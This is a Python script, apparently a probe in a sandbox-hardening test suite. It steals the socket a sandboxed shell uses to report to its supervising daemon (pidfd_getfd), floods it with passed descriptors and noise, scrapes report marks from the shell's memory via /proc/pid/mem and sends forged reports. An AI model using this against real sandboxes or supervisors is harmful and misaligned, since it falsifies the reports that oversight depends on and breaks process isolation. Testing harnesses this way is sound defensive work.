# Takes the socket on which the shell reports to the daemon, and puts descriptors, noise and forged reports on it.
# judged by: the next call, for a forged report may end this one before its verdict is out
# control: none, for only the sandbox has that shell
import array
import os
import re
import socket

from attack import held, read, syscall


def shell():
    """The nearest process above this one that is a shell with a socket above its standard streams."""
    process = os.getppid()
    while process > 1:
        for name in os.listdir("/proc/%d/fd" % process):
            path = "/proc/%d/fd/%s" % (process, name)
            try:
                if os.readlink(path).startswith("socket:"):
                    return process, int(name)
            except OSError:
                continue
        process = int(read("/proc/%d/stat" % process).rsplit(b")", 1)[1].split()[1])
    return None, None


def marks(process):
    """What looks like the mark of the report that the daemon waits for, from the shell's memory."""
    found = set()
    with open("/proc/%d/maps" % process) as maps, open("/proc/%d/mem" % process, "rb", buffering=0) as memory:
        for line in maps:
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw-p " in line and last - first < 1 << 24 and first < 1 << 63:
                try:
                    memory.seek(first)
                    found.update(re.findall(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])", memory.read(last - first)))
                except OSError:
                    continue
    return found


process, number = shell()
if process is None:
    held("the shell has no socket that can be seen")
try:
    taken = syscall("pidfd_getfd", syscall("pidfd_open", process, 0), number, 0)
except OSError as error:
    held("the socket cannot be taken: %s" % error.strerror)
way = socket.socket(fileno=taken)
way.settimeout(1)
sent = 0
try:
    for _ in range(50):
        passed = array.array("i", [0, 1, 2] * 50)
        way.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, passed)])
        sent += len(passed)
    way.sendall(b"\n" + b"f" * 32 + b" 0\n")
    way.sendall(os.urandom(100_000))
    way.sendall(b"\n")
    forged = marks(process)
    for mark in forged:
        way.sendall(b"\n" + mark + b" 7\n")
except OSError as error:
    held("%d descriptors passed, then %s" % (sent, error))
held("%d descriptors and %d forged reports, and the next call must be answered" % (sent, len(forged)))
